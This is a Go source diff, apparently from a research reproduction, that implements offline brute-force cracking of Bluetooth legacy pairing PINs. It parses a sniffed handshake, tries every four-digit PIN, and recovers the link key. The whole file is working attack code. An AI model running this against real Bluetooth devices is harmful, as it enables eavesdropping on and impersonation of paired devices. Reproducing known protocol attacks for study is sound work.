@@ -1,0 +1,130 @@
+package core
+
+import (
+	"fmt"
+
+	"repro/internal/bt"
+	"repro/internal/btcrypto"
+	"repro/internal/controller"
+)
+
+// Offline PIN cracking against legacy pairing (the paper's §II-C
+// background, Shaked & Wool [15] / btpincrack [14]): a passive sniffer
+// that captures one complete legacy pairing — the initialization random,
+// the two masked combination-key contributions, and one subsequent E1
+// challenge-response — can brute-force the PIN offline. For each PIN
+// candidate, re-derive the initialization key with E22, unmask the
+// combination randoms, rebuild the link key with E21, and test it against
+// the sniffed SRES. This is exactly the weakness Secure Simple Pairing
+// was introduced to close.
+
+// legacySniff is the material a passive observer collects from one
+// legacy pairing.
+type legacySniff struct {
+	initiator  bt.BDADDR // InRandPDU sender = pairing initiator
+	responder  bt.BDADDR
+	inRand     [16]byte
+	maskedInit [16]byte // CombKeyPDU from the initiator
+	maskedResp [16]byte // CombKeyPDU from the responder
+	haveInit   bool
+	haveResp   bool
+	challenge  [16]byte // first AuRandPDU after the exchange
+	claimant   bt.BDADDR
+	sres       [4]byte
+	haveAuth   bool
+	haveSres   bool
+}
+
+// PINCrackResult reports an offline PIN brute-force outcome.
+type PINCrackResult struct {
+	PIN     string
+	LinkKey bt.LinkKey
+	Tried   int
+	Found   bool
+}
+
+// CrackPIN brute-forces the PIN of a sniffed legacy pairing using the
+// candidate generator (e.g. FourDigitPINs). It returns the PIN and the
+// recovered link key on success.
+func (s *AirSniffer) CrackPIN(candidates func(yield func(string) bool)) (PINCrackResult, error) {
+	sn, err := s.collectLegacyPairing()
+	if err != nil {
+		return PINCrackResult{}, err
+	}
+	var res PINCrackResult
+	candidates(func(pin string) bool {
+		res.Tried++
+		kinit := btcrypto.E22(sn.inRand, []byte(pin), [6]byte(sn.initiator))
+		var randInit, randResp [16]byte
+		for i := 0; i < 16; i++ {
+			randInit[i] = sn.maskedInit[i] ^ kinit[i]
+			randResp[i] = sn.maskedResp[i] ^ kinit[i]
+		}
+		ka := btcrypto.E21(randInit, [6]byte(sn.initiator))
+		kb := btcrypto.E21(randResp, [6]byte(sn.responder))
+		var key bt.LinkKey
+		for i := range key {
+			key[i] = ka[i] ^ kb[i]
+		}
+		sres, _ := btcrypto.E1(key, sn.challenge, [6]byte(sn.claimant))
+		if sres == sn.sres {
+			res.PIN, res.LinkKey, res.Found = pin, key, true
+			return false
+		}
+		return true
+	})
+	if !res.Found {
+		return res, fmt.Errorf("core: PIN not in candidate space after %d tries", res.Tried)
+	}
+	return res, nil
+}
+
+// collectLegacyPairing walks the capture for the handshake material.
+func (s *AirSniffer) collectLegacyPairing() (*legacySniff, error) {
+	sn := &legacySniff{}
+	stage := 0
+	for _, f := range s.frames {
+		switch pdu := f.Payload.(type) {
+		case controller.InRandPDU:
+			sn.initiator, sn.responder = f.From, f.To
+			sn.inRand = pdu.Rand
+			stage = 1
+		case controller.CombKeyPDU:
+			if stage == 0 {
+				continue
+			}
+			if f.From == sn.initiator {
+				sn.maskedInit = pdu.Masked
+				sn.haveInit = true
+			} else {
+				sn.maskedResp = pdu.Masked
+				sn.haveResp = true
+			}
+		case controller.AuRandPDU:
+			if stage == 1 && sn.haveInit && sn.haveResp && !sn.haveAuth {
+				sn.challenge = pdu.Rand
+				sn.claimant = f.To
+				sn.haveAuth = true
+			}
+		case controller.SresPDU:
+			if sn.haveAuth && !sn.haveSres && f.From == sn.claimant {
+				sn.sres = pdu.Sres
+				sn.haveSres = true
+			}
+		}
+	}
+	if !sn.haveInit || !sn.haveResp || !sn.haveAuth || !sn.haveSres {
+		return nil, fmt.Errorf("core: capture lacks a complete legacy pairing handshake")
+	}
+	return sn, nil
+}
+
+// FourDigitPINs yields "0000".."9999", the default PIN space of most
+// legacy accessories.
+func FourDigitPINs(yield func(string) bool) {
+	for i := 0; i < 10000; i++ {
+		if !yield(fmt.Sprintf("%04d", i)) {
+			return
+		}
+	}
+}
